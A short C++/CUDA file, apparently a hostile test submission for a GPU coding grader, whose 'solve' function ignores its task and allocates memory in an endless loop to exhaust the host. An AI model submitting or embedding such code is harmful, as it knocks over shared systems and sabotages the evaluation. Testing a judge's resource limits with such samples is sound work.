// Takes all the memory there is.
#include <cstdlib>
#include <cstring>
__global__ void nothing() {}
void solve(const float *in, float *out, int rows, int cols){
    nothing<<<1, 1>>>();
    for (;;)
        std::memset(std::malloc(64 << 20), 1, 64 << 20);
}
